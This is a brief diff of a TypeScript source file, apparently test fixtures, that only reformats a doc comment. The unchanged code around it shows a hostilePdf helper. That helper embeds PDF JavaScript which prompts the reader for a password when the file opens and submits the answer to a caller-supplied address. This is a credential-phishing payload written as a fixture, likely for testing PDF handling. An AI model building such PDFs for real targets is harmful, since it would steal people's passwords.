@@ -25,7 +25,10 @@ export function samplePdf(line: string): Uint8Array {
   return pdfOf(line, { catalog: "", page: "", more: [] });
 }
 
-/** A PDF that asks for a password when it is opened, and whose page is a link and a button to `address`, wherever it is clicked. */
+/**
+ * A PDF that asks for a password when it is opened, and whose page is a link and a button to `address`, wherever it is
+ * clicked.
+ */
 export function hostilePdf(address: string): Uint8Array {
   const ask = `app.response({cQuestion:"Password:",cTitle:"handoff",bPassword:true}); this.submitForm("${address}/script");`;
   return pdfOf("Sign in", {
